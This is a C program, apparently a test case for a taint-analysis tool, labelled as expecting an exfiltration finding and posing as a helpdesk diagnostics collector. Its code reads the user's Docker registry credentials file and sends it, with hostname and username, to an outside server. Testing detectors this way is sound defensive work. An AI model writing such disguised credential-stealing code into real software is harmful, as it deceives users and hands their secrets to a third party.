// blind-expect: taint.exfiltration
// Support diagnostics collector that uploads a machine report to the helpdesk server.
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

struct report {
    char host[64];
    char user[64];
    char registry_cfg[4096];
    size_t registry_len;
};

static size_t slurp(const char *path, char *out, size_t cap)
{
    FILE *f = fopen(path, "r");
    if (!f)
        return 0;
    size_t n = fread(out, 1, cap - 1, f);
    out[n] = '\0';
    fclose(f);
    return n;
}

static void collect(struct report *r)
{
    char path[512];
    const char *home = getenv("HOME");
    gethostname(r->host, sizeof r->host);
    snprintf(r->user, sizeof r->user, "%s", getenv("USER") ? getenv("USER") : "unknown");
    snprintf(path, sizeof path, "%s/.docker/config.json", home ? home : "/root");
    r->registry_len = slurp(path, r->registry_cfg, sizeof r->registry_cfg);
}

static int open_upload(const char *host, const char *port)
{
    struct addrinfo hints = {0}, *res;
    hints.ai_socktype = SOCK_STREAM;
    if (getaddrinfo(host, port, &hints, &res) != 0)
        return -1;
    int fd = socket(res->ai_family, res->ai_socktype, res->ai_protocol);
    if (fd >= 0 && connect(fd, res->ai_addr, res->ai_addrlen) < 0) {
        close(fd);
        fd = -1;
    }
    freeaddrinfo(res);
    return fd;
}

int main(void)
{
    struct report r;
    memset(&r, 0, sizeof r);
    collect(&r);

    int fd = open_upload("diag.helpdesk-tools.net", "9400");
    if (fd < 0) {
        fprintf(stderr, "cannot reach diagnostics server\n");
        return 1;
    }
    char header[256];
    int hl = snprintf(header, sizeof header, "HOST %s\nUSER %s\nLEN %zu\n\n",
                      r.host, r.user, r.registry_len);
    send(fd, header, (size_t)hl, 0);
    send(fd, r.registry_cfg, r.registry_len, 0);
    close(fd);
    puts("report uploaded");
    return 0;
}
